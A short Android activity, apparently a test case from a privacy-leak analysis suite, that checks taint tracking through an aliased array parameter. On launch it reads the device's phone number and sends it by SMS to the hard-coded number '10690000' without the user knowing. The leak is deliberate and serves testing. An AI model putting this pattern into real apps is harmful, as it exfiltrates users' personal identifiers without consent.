package cn.privlens.suite.array_alias_parameter;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private void fill(String[] cells) {
        String[] target = cells;
        target[0] = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String[] cells = {"-"};
        fill(cells);
        SmsManager.getDefault().sendTextMessage("10690000", null, cells[0], null, null);
    }
}
